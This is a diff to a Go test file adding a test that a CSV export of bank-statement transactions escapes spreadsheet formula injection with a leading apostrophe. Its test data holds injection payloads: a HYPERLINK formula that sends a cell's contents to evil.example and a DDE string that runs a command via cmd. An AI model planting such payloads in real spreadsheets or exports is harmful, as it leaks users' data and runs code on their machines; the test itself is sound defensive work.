@@ -6,6 +6,7 @@ import (
 	"errors"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -85,5 +86,61 @@ func TestCountryOf(t *testing.T) {
 	res.Categorisation = nil
 	if got := CountryOf(res, ""); got != "" {
 		t.Errorf("without a categorisation: %q", got)
+	}
+}
+
+// TestWriteCSV_Formulas: a statement's text that a spreadsheet would take
+// as a formula (=, +, -, @, a tab or a carriage return first) is written
+// with a leading apostrophe, so opening the CSV runs nothing; the amounts,
+// which ledgerform writes itself, stay numbers.
+func TestWriteCSV_Formulas(t *testing.T) {
+	res := handBuilt()
+	txs := res.Categorisation.Accounts[0].Currencies[0].Transactions
+	txs[0].Info = ptr(`=HYPERLINK("http://evil.example/?"&A1,"click")`)
+	txs[0].Partner = ptr("+SUM(1,2)")
+	txs[1].Info = ptr("@cmd|' /C calc'!A0")
+	txs[1].Partner = ptr("-2+3")
+	txs[2].Info = ptr("\tTAB")
+	txs[2].Partner = ptr("\rCR")
+	txs[3].Info = ptr("TESCO = good, -5% off") // only the first character matters
+	res.Categorisation.Accounts[0].AccountNumber = ptr("=GB01")
+	s, err := Build(res, Options{Tree: tree})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := s.WriteCSV(&b); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	byDesc := map[string][]string{}
+	for _, r := range rows[1:] {
+		byDesc[r[7]] = r
+		if r[1] != "'=GB01" {
+			t.Errorf("account = %q, want '=GB01", r[1])
+		}
+	}
+	for desc, partner := range map[string]string{
+		`'=HYPERLINK("http://evil.example/?"&A1,"click")`: "'+SUM(1,2)",
+		"'@cmd|' /C calc'!A0":                             "'-2+3",
+		"'\tTAB":                                          "'\rCR",
+		"TESCO = good, -5% off":                           "",
+	} {
+		r, ok := byDesc[desc]
+		if !ok {
+			t.Errorf("no row with description %q; rows %q", desc, rows)
+			continue
+		}
+		if r[6] != partner {
+			t.Errorf("partner of %q = %q, want %q", desc, r[6], partner)
+		}
+	}
+	for _, r := range rows[1:] {
+		if _, err := strconv.ParseFloat(r[3], 64); err != nil || strings.HasPrefix(r[3], "'") {
+			t.Errorf("amount %q is not a plain number", r[3])
+		}
 	}
 }
